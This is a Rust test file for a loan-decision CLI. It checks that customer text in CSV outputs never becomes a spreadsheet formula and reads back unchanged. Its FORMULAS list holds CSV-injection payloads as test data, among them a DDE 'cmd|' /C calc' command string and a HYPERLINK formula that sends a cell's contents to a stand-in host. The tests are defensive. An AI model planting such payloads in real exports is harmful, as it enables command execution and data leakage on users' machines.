//! No text of a customer becomes a formula in a spreadsheet, in any CSV that the program writes, and what was written
//! is read back as it was.

use crate::fixtures::desk::{Desk, POLICY};

/// Texts that a spreadsheet would compute, some of them behind blanks, quotes or an apostrophe.
const FORMULAS: [&str; 8] = [
    "=HYPERLINK(\"http://x.example/?\"&A1)",
    "+1-2 PAY",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    " =1+1",
    "\t=1+1",
    "\"=1+1\" PAY",
    "'=1+1 PAY",
];

/// Texts that look a little like formulas, and stay as they are.
const HARMLESS: [&str; 4] = ["PAY = 5", "o'neil", "-12.50", "# 5"];

/// Customers under names that begin with such signs. A telephone number is a number.
const CUSTOMERS: [&str; 4] = ["=A1 Obi", "@ada", "-x-", "+2348012345678"];

/// Whether a spreadsheet computes a cell: told from the program's own rule.
fn is_formula(cell: &str) -> bool {
    let is_shown = |letter: &char| !letter.is_whitespace() && !letter.is_control() && *letter != '"';
    let text: String = cell.chars().skip_while(|letter| !is_shown(letter)).collect();
    text.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
        && cell.parse::<f64>().is_err()
        && cell.chars().any(|letter| letter != '-')
}

fn cells(csv: &str) -> Vec<Vec<String>> {
    let rows = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes()).into_records();
    rows.map(|row| row.expect("csv").iter().map(str::to_owned).collect()).collect()
}

fn desk() -> Desk {
    let desk = Desk::new();
    let mut table = csv::Writer::from_writer(Vec::new());
    table.write_record(["customer", "id", "trans_date", "credit", "debit", "desc"]).unwrap();
    let texts: Vec<&str> = FORMULAS.into_iter().chain(HARMLESS).collect();
    for customer in CUSTOMERS {
        for (number, text) in texts.iter().enumerate() {
            let (id, day) = (format!("=r{number}"), format!("2026-03-{:02}", number + 1));
            let amount = format!("{}00.50", number + 1);
            let (credit, debit) = if number % 3 == 2 { ("", amount.as_str()) } else { (amount.as_str(), "") };
            table.write_record([customer, &id, &day, credit, debit, text]).unwrap();
        }
    }
    desk.write("people.csv", &String::from_utf8(table.into_inner().unwrap()).unwrap());
    desk.write("rules/other.toml", &POLICY.replace("min_records = 5", "min_records = 50"));
    desk
}

#[test]
fn no_csv_has_a_formula() {
    let desk = desk();
    desk.write("broken/=A1.json", "{");
    let done = |args: &[&str], status: i32| {
        let said = desk.run(args);
        assert_eq!(said.status, status, "{args:?}: {}", said.err);
    };
    let policy = ["--policy", "rules/small.toml", "--as-of", "2026-04-30"];
    done(&[&["records"][..], &policy, &["people.csv", "--out", "records.csv"]].concat(), 0);
    done(&[&["metrics"][..], &policy, &["people.csv", "--out", "metrics.csv"]].concat(), 0);
    done(&[&["metrics"][..], &policy, &["people.csv", "--out", "book.parquet"]].concat(), 0);
    let batch = ["--write", "decisions,offers,metrics,reasons", "--as", "csv", "--out", "out", "people.csv", "broken"];
    done(&[&["batch"][..], &policy, &batch].concat(), 3);
    let compared = ["--policy", "rules/other.toml", "--against", "rules/small.toml", "--flips", "flips.csv"];
    done(&[&["backtest", "book.parquet"][..], &compared].concat(), 0);
    let tables = ["decisions", "offers", "metrics", "reasons", "failures"].map(|table| format!("out/{table}.csv"));
    let mut rows = 0;
    for file in tables.iter().map(String::as_str).chain(["records.csv", "metrics.csv", "flips.csv"]) {
        for (number, row) in cells(&desk.read(file)).into_iter().enumerate() {
            rows += usize::from(number > 0);
            let wrong = row.iter().find(|cell| is_formula(cell));
            assert_eq!(wrong, None, "{file}, row {number}");
        }
    }
    assert!(rows > 60, "{rows}");
    let failures = desk.read("out/failures.csv");
    assert!(failures.contains("broken/=A1.json"), "{failures}");
}

#[test]
fn numbers_and_harmless_texts_stay_as_they_are() {
    let desk = desk();
    let said = desk.run(&["records", "--policy", "rules/small.toml", "people.csv", "--out", "records.csv"]);
    assert_eq!(said.status, 0, "{}", said.err);
    let rows = cells(&desk.read("records.csv"));
    let column = |name: &str| rows[0].iter().position(|known| known == name).unwrap();
    let narrations: Vec<&str> = rows.iter().map(|row| row[column("desc")].as_str()).collect();
    for text in HARMLESS {
        assert!(narrations.contains(&text), "{text}: {narrations:?}");
    }
    assert!(rows.iter().any(|row| row[column("customer")] == "+2348012345678"));
    assert!(rows.iter().any(|row| row[column("credit")] == "100.50"), "{rows:?}");
}

/// What was guarded is read as it was: the same customers, the same records, the same decisions.
#[test]
fn a_guarded_table_gives_the_same_decisions() {
    let desk = desk();
    let policy = ["--policy", "rules/small.toml", "--as-of", "2026-04-30"];
    assert_eq!(desk.run(&[&["records"][..], &policy, &["people.csv", "--out", "records.csv"]].concat()).status, 0);
    let decided = |file: &str| {
        let said = desk.run(&[&["decide"][..], &policy, &[file]].concat());
        assert_eq!(said.status, 0, "{file}: {}", said.err);
        let mut decisions = super::values(&said.out);
        for decision in &mut decisions {
            let decision = decision.as_object_mut().unwrap();
            ["statement", "digests", "quality"].iter().for_each(|key| drop(decision.remove(*key)));
        }
        decisions
    };
    let (own, back) = (decided("people.csv"), decided("records.csv"));
    assert_eq!(own.len(), CUSTOMERS.len());
    assert_eq!(own, back);
    let again = [&["records"][..], &policy, &["records.csv", "--out", "again.csv"]].concat();
    assert_eq!(desk.run(&again).status, 0);
    assert_eq!(desk.read("again.csv"), desk.read("records.csv").replace("people.csv", "records.csv"));
}

/// Labels name records as tables do, and so does what became of loans.
#[test]
fn labels_and_outcomes_are_read_back_too() {
    let desk = desk();
    let mut labels = String::from("customer,id,label\n");
    for customer in ["'=A1 Obi", "'@ada", "'-x-", "+2348012345678"] {
        (0..12).for_each(|number| labels.push_str(&format!("{customer},'=r{number},'=pay\n")));
    }
    desk.write("labels.csv", &labels);
    let rules = desk.read("rules/small.toml") + "[transaction]\nis_pay = \"credit > 0\"\n";
    desk.write("rules/flags.toml", &rules);
    let records = ["records", "--policy", "rules/flags.toml", "people.csv", "--labels", "labels.csv"];
    let said = desk.run(&[&records[..], &["--truth", "is_pay==pay", "--out", "labelled.csv"]].concat());
    assert_eq!(said.status, 0, "{}", said.err);
    let rows = cells(&desk.read("labelled.csv"));
    assert!(rows.iter().skip(1).all(|row| row.last().is_some_and(|label| label == "'=pay")), "{rows:?}");
    let book = ["metrics", "--policy", "rules/small.toml", "--as-of", "2026-04-30", "people.csv", "--out"];
    assert_eq!(desk.run(&[&book[..], &["book.parquet"]].concat()).status, 0);
    desk.write("loans.csv", "customer,bad\n'=A1 Obi,0\n'@ada,1\n'-x-,0\n+2348012345678,1\n");
    let backtest = ["backtest", "--policy", "rules/small.toml", "--outcomes", "loans.csv", "--format", "json"];
    let said = desk.run(&[&backtest[..], &["book.parquet"]].concat());
    assert_eq!(said.status, 0, "{}", said.err);
    assert!(!said.err.contains("no customer") && !said.err.contains("not in"), "{}", said.err);
}
